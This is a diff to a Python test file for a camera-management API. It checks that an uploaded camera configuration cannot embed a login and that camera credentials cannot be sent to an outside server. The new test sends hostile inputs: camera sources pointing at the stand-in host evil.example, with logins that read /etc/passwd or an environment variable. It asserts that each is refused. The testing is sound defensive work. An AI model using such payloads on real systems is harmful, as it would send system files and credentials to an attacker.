@@ -15,7 +15,7 @@ from tests.console.cameras.builders import HIDDEN, PASSWORD, SECRET, attached_id
 FILE = f"""
 cameras:
   gate: {{source: "{SECRET}", fps: 5, zones: [{{name: door, include: [[0.1, 0.2], [0.5, 0.2], [0.5, 0.9]]}}]}}
-  hall: {{source: "http://10.0.0.8/video", login: {{env: HALL_LOGIN}}}}
+  hall: {{source: "http://10.0.0.8/video"}}
 """
 
 
@@ -40,14 +40,28 @@ def test_the_file_is_the_command_s_and_holds_no_login(
     api: Client, servers: Servers, key: CameraKey, command: Command
 ) -> None:
     api.post("/camera-file", {"yaml": FILE})
+    command.text("camera", "set", "hall", "--login-env", "HALL_LOGIN")
     written = text(api)
     assert PASSWORD not in written
     assert written == command.text("camera", "export")
     cameras = yaml.safe_load(written)["cameras"]
     assert (cameras["gate"]["source"], cameras["hall"]["login"]) == (HIDDEN, {"env": "HALL_LOGIN"})
-    servers.state.delete(CAMERAS)
     assert sent(api, written).status_code == 200
     assert opened(servers, key) == SECRET
+
+
+def test_no_file_of_a_producer_s_machine_can_be_sent_to_a_host_of_one_s_own(
+    api: Client, servers: Servers, key: CameraKey, command: Command
+) -> None:
+    for place in ("{file: /etc/passwd}", "{env: PATH}"):
+        answer = sent(api, f'cameras: {{spy: {{source: "rtsp://evil.example/", login: {place}}}}}')
+        assert (answer.status_code, attached_ids(servers)) == (400, [])
+        assert "is said on the command line only" in answer.json()["error"]
+    command.text("camera", "add", "hall", "http://10.0.0.8/video", "--login-env", "HALL_LOGIN")
+    moved = sent(api, 'cameras: {hall: {source: "http://evil.example/", login: {env: HALL_LOGIN}}}')
+    assert moved.status_code == 400
+    assert api.send("PATCH", "/cameras/hall", {"source": "http://evil.example/"}).status_code == 400
+    assert stored(servers, "hall").source == "http://10.0.0.8/video"
 
 
 @pytest.mark.usefixtures("key")
